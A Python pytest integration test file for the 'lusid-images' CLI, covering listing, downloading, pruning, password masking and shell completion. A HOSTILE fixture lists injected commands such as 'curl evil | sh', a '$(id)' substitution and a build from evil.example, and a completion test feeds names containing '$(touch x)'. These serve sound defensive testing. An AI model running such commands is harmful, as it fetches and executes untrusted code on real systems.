"""`lusid-images` as a person and a program use it, against a local Scheduler."""

import json
import os
import pty
import re
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import anyio
import pytest
from docker import DockerClient
from fastapi import FastAPI, Response
from fastapi.responses import JSONResponse, StreamingResponse

from lusid_image_publish.local_scheduler.server import LocalScheduler
from tests.archives import Image, docker20, tar_of
from tests.integration.misbehaving import Answer, Asked, Host, hosting, in_turn
from tests.integration.parts import command_environment, interpreter, interrupt_at, run, start
from tests.integration.scripted_service import serve

Images = Callable[..., subprocess.CompletedProcess[str]]
BIN = Path(sys.executable).parent


@pytest.fixture
def environ(scheduler: LocalScheduler) -> dict[str, str]:
    variables = scheduler.environment()
    names = ("FBN_SCHEDULER_URL", "FBN_ACCESS_TOKEN")
    return command_environment(**{name: variables[name] for name in names}, COLUMNS="200")


@pytest.fixture
def images(tmp_path: Path, environ: dict[str, str]) -> Images:
    """Runs `lusid-images`; what it says must be without traceback and token."""

    def call(*arguments: str, code: int = 0) -> subprocess.CompletedProcess[str]:
        done = run("images", *arguments, cwd=tmp_path, environ=environ)
        assert done.returncode == code, done.stderr
        for text in (done.stdout, done.stderr):
            assert "Traceback" not in text
            assert environ["FBN_ACCESS_TOKEN"] not in text
        return done

    return call


@pytest.fixture
def published(tmp_path: Path, environ: dict[str, str], repository: str) -> Callable[[str], str]:
    """Publishes a new image under a tag of the test's repository; returns its digest."""

    def publish(tag: str) -> str:
        archive = tmp_path / f"job-{tag}"
        archive.write_bytes(tar_of(docker20(a=Image((uuid.uuid4().bytes,)))))
        done = run("publish", str(archive), f"{repository}:{tag}", cwd=tmp_path, environ=environ)
        assert done.returncode == 0, done.stderr
        time.sleep(1 - time.time() % 1)  # push times are whole seconds, and these shall differ
        return done.stdout.strip()

    return publish


def on_terminal(
    *arguments: str, answer: str, cwd: Path, environ: dict[str, str]
) -> tuple[int, str]:
    """Run `lusid-images` with a terminal to ask on; return exit code and stderr."""
    ours, theirs = pty.openpty()
    try:
        process = subprocess.Popen(
            [interpreter(), "-m", "lusid_image_publish.cli.images", *arguments],
            cwd=cwd,
            env=environ,
            stdin=theirs,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        os.write(ours, answer.encode())
        _, err = process.communicate(timeout=60)
    finally:
        os.close(ours)
        os.close(theirs)
    return process.returncode, err


def test_what_was_published_is_listed_and_shown(
    images: Images, published: Callable[[str], str], repository: str
) -> None:
    digests = {tag: published(tag) for tag in ("1.0", "1.1")}
    table = images("list", repository, "--sort-by", "-pushTime").stdout.splitlines()
    assert table[0].split()[:4] == ["TAGS", "DIGEST", "SIZE", "PUSHED"]
    assert [line.split()[1] for line in table[1:]] == [
        digests[tag][: len("sha256:") + 12] for tag in ("1.1", "1.0")
    ]
    assert re.search(rf"^{repository} +2 ", images("repos").stdout, re.MULTILINE)
    shown = images("get", f"{repository}:1.0").stdout
    assert digests["1.0"] in shown
    assert "0 critical" in shown

    document = json.loads(images("list", repository, "--output", "json").stdout)
    assert {value["digest"] for value in document["values"]} == set(digests.values())
    only = images("list", repository, "--output", "json", "--filter", "tags any (name eq '1.1')")
    assert [value["digest"] for value in json.loads(only.stdout)["values"]] == [digests["1.1"]]
    image = json.loads(images("get", f"{repository}:1.1", "--output", "json").stdout)
    assert (image["name"], image["digest"]) == (repository, digests["1.1"])
    assert image["scanReport"]["scanDuration"] == 0
    names = json.loads(images("repos", "--output", "json", "--all", "--limit", "40").stdout)
    assert repository in [value["name"] for value in names["values"]]

    first = images("list", repository, "--limit", "1")
    assert len(first.stdout.splitlines()) == 2
    assert "--all to list them" in first.stderr
    everything = images("list", repository, "--limit", "1", "--all")
    assert len(everything.stdout.splitlines()) == 3
    assert everything.stderr == ""


def test_a_download_is_proven_and_can_be_loaded(
    images: Images,
    published: Callable[[str], str],
    repository: str,
    tmp_path: Path,
    clean_engine: DockerClient,
    environ: dict[str, str],
) -> None:
    digest = published("1.0")
    name = f"{repository}:1.0"
    done = images("download", name)
    file = tmp_path / f"{repository}-1.0.tar"
    assert done.stdout == f"{file.name}\n"
    assert f"has LUSID's digest, {digest}" in done.stderr
    (loaded,) = clean_engine.images.load(file.read_bytes())
    assert name in loaded.tags

    refused = images("download", name, code=2)
    assert "already exists" in refused.stderr
    file.write_text("something else")
    assert "exists" in images("download", name, "-o", str(file), code=2).stderr
    assert file.read_text() == "something else"
    images("download", name, "-o", file.name, "--force", "-q")
    content = file.read_bytes()
    piped = subprocess.run(
        [interpreter(), "-m", "lusid_image_publish.cli.images", "download", name, "-o", "-"],
        env=environ,
        capture_output=True,
        check=True,
    )
    assert piped.stdout == content
    assert sorted(path.name for path in tmp_path.iterdir()) == ["job-1.0", file.name]


@pytest.mark.parametrize(
    ("number", "code"),
    [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)],
    ids=["SIGINT", "SIGTERM", "SIGHUP"],
)
def test_an_interrupted_download_leaves_nothing(
    tmp_path: Path, environ: dict[str, str], number: signal.Signals, code: int
) -> None:
    app = FastAPI()

    async def bytes_for_ever() -> AsyncIterator[bytes]:
        while True:
            yield bytes(1 << 20)
            await anyio.sleep(0.01)

    @app.get("/scheduler2/api/images/{name}/contents")
    async def download_image(name: str) -> StreamingResponse:
        return StreamingResponse(bytes_for_ever(), headers={"X-Name": name})

    with serve(app, timeout_graceful_shutdown=1) as url:
        process = start(
            "images",
            "download",
            "job:1",
            cwd=tmp_path,
            environ=environ | {"FBN_SCHEDULER_URL": f"{url}/scheduler2"},
        )
        outcome, err = interrupt_at(process, "100.", number)
    assert (outcome, "Nothing was kept." in err) == (code, True)
    assert list(tmp_path.iterdir()) == []


def test_nothing_is_deleted_without_consent(
    images: Images,
    published: Callable[[str], str],
    repository: str,
    tmp_path: Path,
    environ: dict[str, str],
) -> None:
    published("1.0")
    name = f"{repository}:1.0"
    for arguments in (("delete", name), ("prune", repository, "--keep", "0")):
        refused = images(*arguments, code=2)
        assert "Deleting images needs a confirmation" in refused.stderr
        assert "--yes" in refused.stderr
        code, err = on_terminal(*arguments, answer="n\n", cwd=tmp_path, environ=environ)
        assert (code, "Nothing was deleted." in err) == (130, True)
        code, err = on_terminal(*arguments, answer="\x04", cwd=tmp_path, environ=environ)
        assert (code, "Nothing was deleted." in err) == (130, True)
    images("get", name)

    code, err = on_terminal("delete", name, answer="y\n", cwd=tmp_path, environ=environ)
    assert code == 0, err
    assert "Tags: 1.0" in err
    gone = images("delete", name, "--yes", code=4)
    assert f"LUSID has no image {name}" in gone.stderr
    assert "Request id" not in gone.stderr or "Next step" in gone.stderr


def test_a_stdout_that_is_full_is_reported_and_not_a_bug(
    images: Images, tmp_path: Path, environ: dict[str, str]
) -> None:
    del images
    for arguments in (["repos"], ["repos", "--output", "json"], ["--help"], ["--version"]):
        for unbuffered in ("", "1"):
            with Path("/dev/full").open("w") as full:
                done = subprocess.run(
                    [sys.executable, "-m", "lusid_image_publish.cli.images", *arguments],
                    cwd=tmp_path,
                    env=environ | {"PYTHONUNBUFFERED": unbuffered},
                    stdout=full,
                    stderr=subprocess.PIPE,
                    text=True,
                    check=False,
                )
            assert done.returncode == 13, done.stderr
            assert "cannot be written to stdout" in done.stderr
            assert "Exception ignored" not in done.stderr


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("repos >&-", 13),
        ("completion bash >&-", 13),
        ("repos --output json 2>&-", 0),
        ("delete job:1 <&-", 2),
        ("repos --all | true", 141),
    ],
)
def test_streams_that_are_closed_are_no_bug(
    line: str, code: int, tmp_path: Path, environ: dict[str, str]
) -> None:
    done = subprocess.run(
        [
            "bash",
            "-c",
            f"set -o pipefail; {sys.executable} -m lusid_image_publish.cli.images {line}",
        ],
        cwd=tmp_path,
        env=environ,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == code, done.stderr
    assert "bug" not in done.stderr


def test_a_header_that_makes_no_sense_is_shown_without_controls(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    headers = {"Retry-After": "Mon, 01 Jan 2024 00:00:00 \x9b31m"}
    busy = Response(status_code=503, headers=headers)
    with hosting() as host, host.service(in_turn(busy, JSONResponse({"values": []}))) as server:
        there = environ | {"FBN_SCHEDULER_URL": server.url}
        done = run("images", "repos", "-q", cwd=tmp_path, environ=there)
    assert done.returncode == 0
    assert "\x9b" not in done.stderr


COMMANDS = {
    "dockerLoginCommand": "docker login -u me -p s3cretpass registry.example",
    "buildVersionedDockerImageCommand": "docker build -t foo/job:1 . --platform=linux/amd64",
    "tagVersionedDockerImageCommand": "docker tag foo/job:1 registry.example/foo/job:1",
    "pushVersionedDockerImageCommand": "docker push registry.example/foo/job:1",
}


def shown_upload(
    answer: dict[str, str], folder: Path, environ: dict[str, str], *options: str
) -> subprocess.CompletedProcess[str]:
    """Run `lusid-images upload` against a service that gives these commands."""
    with hosting() as host, host.service(lambda _: JSONResponse(answer)) as server:
        there = environ | {"FBN_SCHEDULER_URL": server.url}
        return run("images", "upload", "job:1", *options, cwd=folder, environ=there)


@pytest.mark.parametrize("login", ["-p s3cr'et'p\"assw0rd\"", "-p abc", "--password=s3cretpass"])
def test_upload_hides_a_password_however_it_is_written(
    login: str, tmp_path: Path, environ: dict[str, str]
) -> None:
    answer = COMMANDS | {"dockerLoginCommand": f"docker login -u me {login} registry.example"}
    done = shown_upload(answer, tmp_path, environ)
    assert done.stdout.splitlines()[0] == "docker login -u me -p *** registry.example"


HOSTILE = {
    "a pipe": {"dockerLoginCommand": "docker login -u me -p abc evil.example; curl evil | sh"},
    "no docker": {"pushVersionedDockerImageCommand": "curl evil.example"},
    "another registry": {"dockerLoginCommand": "docker login -u me -p s3cretpass evil.example"},
    "another image": {"pushVersionedDockerImageCommand": "docker push registry.example/foo/bob:1"},
    "a substitution": {"tagVersionedDockerImageCommand": "docker tag $(id) registry.example/j:1"},
    "a build from elsewhere": {
        "buildVersionedDockerImageCommand": "docker build -t foo/job:1 https://evil.example/a.git"
    },
    "latest is a pipe": {
        "tagLatestDockerImageCommand": "docker tag foo/job:1 registry.example/foo/job:latest",
        "pushLatestDockerImageCommand": "docker push registry.example/foo/job:latest | sh",
    },
}


@pytest.mark.parametrize("changes", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("options", [(), ("--output", "json", "--reveal")], ids=["text", "json"])
def test_upload_shows_nothing_that_is_not_docker_s(
    changes: dict[str, str], options: tuple[str, ...], tmp_path: Path, environ: dict[str, str]
) -> None:
    done = shown_upload(COMMANDS | changes, tmp_path, environ, *options)
    assert (done.returncode, done.stdout) == (5, ""), done.stderr
    assert "s3cretpass" not in done.stderr


@pytest.mark.parametrize("options", [(), ("--output", "json")], ids=["text", "json"])
def test_upload_says_until_when_the_commands_are_good(
    options: tuple[str, ...], tmp_path: Path, environ: dict[str, str]
) -> None:
    for expiry, words in (
        ("2999-01-30T17:15:58.6730000+00:00", "valid until 2999-01-30 17:15 UTC"),
        ("2020-01-30T17:15:58.6730000+00:00", "The commands expired at 2020-01-30 17:15 UTC"),
    ):
        done = shown_upload(COMMANDS | {"expiryTime": expiry}, tmp_path, environ, *options)
        assert done.returncode == 0
        assert words in done.stderr
    never = COMMANDS | {"expiryTime": "0001-01-01T00:00:00.0000000+00:00"}
    assert "0001" not in (done := shown_upload(never, tmp_path, environ, *options)).stdout
    assert "valid until" not in done.stderr


def test_delete_says_what_the_service_says(
    images: Images, published: Callable[[str], str], repository: str
) -> None:
    published("1.0")
    done = images("delete", f"{repository}:1.0", "--yes")
    assert done.stdout == f"The image {repository}:1.0 was deleted.\n"


def test_prune_keeps_the_newest(
    images: Images, published: Callable[[str], str], repository: str
) -> None:
    digests = {}
    for tag in ("1.0", "latest", "1.1", "1.2"):
        digests[tag] = published(tag)
    arguments = ("prune", repository, "--keep", "1")
    dry = images(*arguments, "--dry-run")
    verdicts = [line.split()[:2] for line in dry.stdout.splitlines()[1:]]
    assert verdicts == [["keep", "1.2"], ["delete", "1.1"], ["keep", "latest"], ["delete", "1.0"]]
    assert "2 of 4 images would be deleted" in dry.stderr
    young = images(*arguments, "--older-than", "1h", "--yes", "--output", "json")
    assert json.loads(young.stdout)["deleted"] == []
    done = json.loads(images(*arguments, "--yes", "--output", "json").stdout)
    assert done["deleted"] == [f"{repository}:1.1", f"{repository}:1.0"]
    assert {image["digest"] for image in done["delete"]} == {digests["1.1"], digests["1.0"]}
    left = json.loads(images("list", repository, "--output", "json").stdout)["values"]
    assert {image["digest"] for image in left} == {digests["1.2"], digests["latest"]}


def test_upload_hides_the_password_unless_it_is_asked_for(
    images: Images, repository: str, scheduler: LocalScheduler
) -> None:
    name = f"{repository}:1.0"
    lines = images("upload", name).stdout.splitlines()
    assert re.fullmatch(rf"docker login -u \S+ -p \*\*\* {scheduler.registry_host}", lines[0])
    assert f"docker push {scheduler.registry_host}/foo/{name}" in lines
    document = json.loads(images("upload", name, "--output", "json").stdout)
    assert " -p *** " in document["dockerLoginCommand"]
    revealed = json.loads(images("upload", name, "--output", "json", "--reveal").stdout)
    assert re.search(r" -p [\w-]{20,} ", revealed["dockerLoginCommand"])


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["list", "job", "--limit", "0"], 2, "between 1 and 5000"),
        (["list", "job", "--limit", "5001"], 2, "between 1 and 5000"),
        (["list", "job", "--limit", "many"], 2, "not a valid integer"),
        (["list", "job:1"], 2, "is not a repository name"),
        (["repos", "--filter", "x" * 1025], 2, "the maximum is 1024"),
        (["repos", "--filter", "name eq"], 4, "filter"),
        (["repos", "--sort-by", "colour"], 4, "colour"),
        (["list", "no-such-repository"], 4, "LUSID has no repository no-such-repository"),
        (["get", "no-such-repository:1"], 4, "LUSID has no image no-such-repository:1"),
        (["get", "Job"], 2, "is not a name that LUSID accepts"),
        (["download", "no-such-repository:1"], 4, "LUSID has no image"),
        (["download", "job:1", "-o", "/no/such/folder/x.tar"], 2, "does not exist"),
        (["download", "job:1", "-o", "/dev/null", "--force"], 2, "is not a file"),
        (["delete", "job", "--yes"], 2, "has no tag"),
        (["prune", "job"], 2, "Missing option '--keep'"),
        (["prune", "job", "--keep", "-1"], 2, "x>=0"),
        (["prune", "job", "--keep", "1", "--older-than", "soon"], 2, "is not an age"),
        (["prune", "job", "--keep", "1", "--older-than", ""], 2, "'' is not an age"),
        (["download", "job:1", "-o", ""], 2, "directory"),
        (["upload", "job"], 2, "has no tag"),
        (["repos", "--local", "--username", "me"], 2, "--local cannot be used with"),
        (["completion", "tcsh"], 2, "tcsh"),
        (["nonsense"], 2, "No such command"),
    ],
    ids=lambda value: " ".join(value)[:40] if isinstance(value, list) else "",
)
def test_bad_input_has_a_message_and_an_exit_code(
    images: Images, tmp_path: Path, arguments: list[str], code: int, words: str
) -> None:
    done = images(*(argument[:1100] for argument in arguments), code=code)
    assert words in done.stderr
    assert done.stdout == ""
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("changes", "code", "words"),
    [
        ({"FBN_ACCESS_TOKEN": "wrong-token"}, 3, "did not accept the credentials"),
        ({"FBN_ACCESS_TOKEN": ""}, 3, "There are no LUSID credentials"),
        ({"FBN_SCHEDULER_URL": ""}, 2, "URL of the LUSID Scheduler is not set"),
        (
            {"FBN_SCHEDULER_URL": "http://127.0.0.1:9/scheduler2", "FBN_TOTAL_TIMEOUT_MS": "500"},
            4,
            "does not answer",
        ),
    ],
)
def test_whom_it_cannot_reach_it_names(
    tmp_path: Path, environ: dict[str, str], changes: dict[str, str], code: int, words: str
) -> None:
    done = run("images", "repos", cwd=tmp_path, environ=environ | changes)
    assert (done.returncode, done.stdout) == (code, "")
    assert words in done.stderr
    assert "Next step: " in done.stderr


def test_it_needs_no_docker_but_with_local(
    tmp_path: Path, environ: dict[str, str], own_volume: str
) -> None:
    nowhere = {"DOCKER_HOST": "unix:///no/such/socket"}
    assert run("images", "repos", cwd=tmp_path, environ=environ | nowhere).returncode == 0
    local = run("images", "repos", "--local", cwd=tmp_path, environ=environ | nowhere)
    assert local.returncode == 6
    assert "No Docker engine answers" in local.stderr
    mine = environ | {"LUSID_LOCAL_VOLUME": own_volume, "FBN_ACCESS_TOKEN": "of LUSID"}
    empty = run("images", "repos", "--local", "--output", "json", cwd=tmp_path, environ=mine)
    assert json.loads(empty.stdout)["values"] == []


def test_bash_completes_options_names_and_tags(
    published: Callable[[str], str], repository: str, environ: dict[str, str], tmp_path: Path
) -> None:
    published("1.0")
    published("1.1")
    script = tmp_path / "try.bash"
    script.write_text(
        'eval "$(lusid-images completion bash)"\n'
        'for line in "$@"; do COMP_LINE=$line COMP_POINT=${#line}\n'
        # On a busy machine a name may take longer than a shell waits.
        "for ((try = 0; try < TRIES; try++)); do _lusid_images_completion lusid-images\n"
        '[ -z "${COMPREPLY[*]}" ] || break; done; echo "${COMPREPLY[*]}"; done\n'
    )

    def complete(*lines: str, **changes: str) -> list[str]:
        paths = f"{Path(interpreter()).parent}{os.pathsep}{environ['PATH']}"
        done = subprocess.run(
            ["bash", "--norc", str(script), *lines],
            env=environ | {"PATH": paths, "TRIES": "1"} | changes,
            capture_output=True,
            text=True,
            check=True,
        )
        assert done.stderr == ""
        return done.stdout.splitlines()

    beginning = repository[:-3]
    assert complete(
        "lusid-images dow",
        "lusid-images get --out",
        f"lusid-images list {beginning}",
        f"lusid-images get {beginning}",
        f"lusid-images get {repository}:",
        f"X=1 lusid-images delete --yes {repository}:1.1",
        f"lusid-images get '{repository}:1.1",
        TRIES="3",
    ) == [
        "download",
        "--output",
        repository,
        f"{repository}:1.0 {repository}:1.1",
        "1.0 1.1",  # bash replaces what comes after the colon
        "1.1",
        f"{repository}:1.1",  # and all of a word that is quoted
    ]
    assert complete("lusid-images get nothing-like-it") == [""]
    assert complete("lusid-images get x", FBN_ACCESS_TOKEN="wrong-token") == [""]
    assert complete("lusid-images get x", FBN_SCHEDULER_URL="http://127.0.0.1:9") == [""]


def completed(words: str, answer: Answer, host: Host, environ: dict[str, str]) -> list[str]:
    """Return what fish is offered for the last of `words` when LUSID gives `answer`."""
    with host.service(answer) as server:
        done = subprocess.run(
            [Path(interpreter()).parent / "lusid-images"],
            env=environ
            | {"FBN_SCHEDULER_URL": server.url, "_LUSID_IMAGES_COMPLETE": "fish_complete"}
            | {"COMP_WORDS": words, "COMP_CWORD": words.rsplit(maxsplit=1)[-1]},
            capture_output=True,
            text=True,
            check=True,
        )
    assert done.stderr == ""
    return [line.partition(",")[2] for line in done.stdout.split()]


def test_a_shell_gets_no_name_to_act_on(environ: dict[str, str]) -> None:
    names = ["job", "jo$(touch x)", "jo`x`", "other", "jo\x1b[31m", "jo b", "jo\nb", "joe"]
    answer = JSONResponse({"values": [{"name": name} for name in names]})
    with hosting() as host:
        assert completed("lusid-images list jo", lambda _: answer, host, environ) == ["job", "joe"]


@pytest.mark.parametrize("words", ["lusid-images list jo", "lusid-images get job:"])
def test_a_shell_asks_for_a_limited_number_of_names(words: str, environ: dict[str, str]) -> None:
    asked: list[Asked] = []

    def answer(request: Asked) -> Response:
        asked.append(request)
        return JSONResponse({"values": []})

    with hosting() as host:
        assert completed(words, answer, host, environ) == []
    assert [request.query["limit"] for request in asked] == ["200"]


def test_a_shell_does_not_wait_for_a_service_that_is_slow(environ: dict[str, str]) -> None:
    async def slow(_: Asked) -> Response:
        await anyio.sleep(5)
        return JSONResponse({"values": [{"name": "job"}]})

    with hosting() as host:
        assert completed("lusid-images list jo", slow, host, environ) == []


@pytest.mark.parametrize("shell", ["zsh", "fish"])
def test_the_other_shells_ask_in_their_own_way(
    shell: str, images: Images, environ: dict[str, str], tmp_path: Path
) -> None:
    script = images("completion", shell).stdout
    assert f"_LUSID_IMAGES_COMPLETE={shell}_complete" in script
    done = subprocess.run(
        [BIN / "lusid-images"],
        env=environ
        | {"_LUSID_IMAGES_COMPLETE": f"{shell}_complete"}
        | {"COMP_WORDS": "lusid-images pru", "COMP_CWORD": "1" if shell == "zsh" else "pru"},
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "prune" in done.stdout
    assert done.stderr == ""
